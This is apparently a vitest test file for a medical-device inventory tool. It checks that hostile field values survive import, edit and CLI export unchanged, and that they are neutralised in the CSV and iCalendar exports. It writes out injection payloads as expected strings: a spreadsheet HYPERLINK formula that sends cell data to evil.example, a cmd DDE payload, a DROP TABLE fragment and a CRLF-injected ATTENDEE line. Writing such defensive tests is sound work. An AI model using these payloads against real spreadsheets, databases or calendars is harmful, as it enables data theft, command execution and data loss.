import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ICAL from 'ical.js';
import { describe, expect, it } from 'vitest';
import { createRouter, type Router } from '../../api/router';
import type { DeviceDetail } from '../../api/schemas/devices';
import { devices, importFile } from '../../testing/devices';
import { SITE_MODEL } from '../../testing/fuzz-documents';
import { HOSTILE } from '../../testing/hostile-text';
import { openTestSession, tempDir } from '../../testing/temp';

const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;

/** One device per hostile value, the value in its model, location and an extra column. */
function hostileInventory(): string {
  const rows = HOSTILE.map((value, i) => [
    `H-${i}`,
    'Siemens',
    value,
    'Nuclear Medicine',
    value,
    'Windows 7',
    value,
  ]);
  return [
    'Asset Tag,Manufacturer,Model,Department,Location,OS,Notes',
    ...rows.map((row) => row.map(quoted).join(',')),
  ].join('\r\n');
}

async function detail(router: Router, id: number): Promise<DeviceDetail> {
  const result = await router.dispatch('getDevice', { id });
  if (!result.ok) throw new Error(result.error.message);
  return result.value as DeviceDetail;
}

describe('hostile text in device fields', () => {
  it('comes back from the database byte for byte, through an import and through an edit', async () => {
    const session = await openTestSession();
    const router = createRouter(session);
    const imported = await importFile(router, hostileInventory());
    expect(imported.rejected).toEqual([]);
    const stored = await devices(router, { sort: { field: 'assetTag', direction: 'asc' } });
    for (const [i, value] of HOSTILE.entries()) {
      const device = stored.find((d) => d.assetTag === `H-${i}`);
      expect(device?.model).toBe(value);
      expect(device?.location).toBe(value);
      expect(device?.extra.Notes).toBe(value);
    }
    const first = stored[0]?.id ?? 0;
    for (const value of HOSTILE) {
      const edited = await router.dispatch('updateDevice', {
        id: first,
        changes: { hostname: value, os: value },
      });
      expect(edited.ok).toBe(true);
      expect((await detail(router, first)).hostname).toBe(value);
    }
    // The statements are prepared: nothing was run, every table is still there.
    const tables = session.ctx.db
      .prepare("SELECT count(*) FROM sqlite_master WHERE name = 'device'")
      .pluck()
      .get();
    expect(tables).toBe(1);
    const search = await devices(router, { search: "'); DROP TABLE" });
    expect(search.map((d) => d.assetTag)).toEqual(['H-3']);
  });

  it('comes back byte for byte from the CLI as JSON', () => {
    const dir = tempDir();
    const db = join(dir, 'isopatch.sqlite');
    writeFileSync(join(dir, 'hostile.csv'), hostileInventory());
    const cli = (...args: string[]) =>
      spawnSync(
        process.execPath,
        [join(import.meta.dirname, '..', '..', '..', 'dist', 'electron', 'cli.cjs'), '--db', db, ...args],
        {
          encoding: 'utf8',
        },
      );
    expect(cli('import-devices', join(dir, 'hostile.csv')).status).toBe(0);
    const listed = JSON.parse(cli('devices', '--json').stdout) as {
      assetTag: string;
      model: string;
      extra: Record<string, string>;
    }[];
    for (const [i, value] of HOSTILE.entries()) {
      const device = listed.find((d) => d.assetTag === `H-${i}`);
      expect(device?.model).toBe(value);
      expect(device?.extra.Notes).toBe(value);
    }
  });

  it('is neutralised in the CSV of rejected rows: a spreadsheet shows a formula, never runs it', async () => {
    const router = createRouter(await openTestSession());
    // No asset tag: every row is rejected and goes to the CSV as it was written.
    const rows = HOSTILE.map((value) => ['', quoted(value)].join(','));
    const result = await importFile(router, ['Asset Tag,Model', 'A-1,Symbia T16', ...rows].join('\n'));
    const csv = result.rejectedCsv ?? '';
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(csv).toContain(",'+cmd|' /C calc'!A0\r\n");
    expect(csv).toContain("'-2+3");
    expect(csv).toContain("'@SUM(1+1)*cmd|");
    expect(csv).toContain(`"Radiology;'=1+2;'-3"`);
    // No cell of the file starts with a formula character, wherever a spreadsheet would start a cell: at a comma,
    // and at a ';' or tab, where Excel in most of Europe splits a .csv whatever the quotes say.
    const cells = csv.split(/\r\n/).flatMap((line) => line.split(/[,;\t]/));
    expect(cells.filter((cell) => /^"*[=+\-@]/.test(cell))).toEqual([]);
  });

  it('stays text in the calendar export: no line of its own, no property of its own', async () => {
    const router = createRouter(await openTestSession());
    await router.dispatch('saveSiteModel', { model: SITE_MODEL });
    const lines = ['Asset Tag,Manufacturer,Model,Modality,Department,Location,OS'];
    lines.push(
      [
        'NM-1',
        'Siemens',
        'Symbia T16',
        'NM',
        'Nuclear Medicine',
        'Room 1\r\nATTENDEE:mailto:evil@example.org',
        'Windows 7',
      ]
        .map(quoted)
        .join(','),
    );
    await importFile(router, lines.join('\n'));
    const plan = await router.dispatch('applyPlan', {
      from: new Date(Date.now() + 86_400_000).toISOString().slice(0, 10),
    });
    expect(plan.ok).toBe(true);
    const ics = await router.dispatch('exportIcs', {});
    if (!ics.ok) throw new Error(ics.error.message);
    const content = (ics.value as { content: string }).content;
    expect(content).not.toMatch(/^ATTENDEE/m);
    const event = new ICAL.Component(ICAL.parse(content)).getFirstSubcomponent('vevent');
    expect(event?.getFirstPropertyValue('location')).toContain('Room 1\nATTENDEE:mailto:evil@example.org');
    expect(event?.getAllProperties('attendee')).toEqual([]);
  });
});
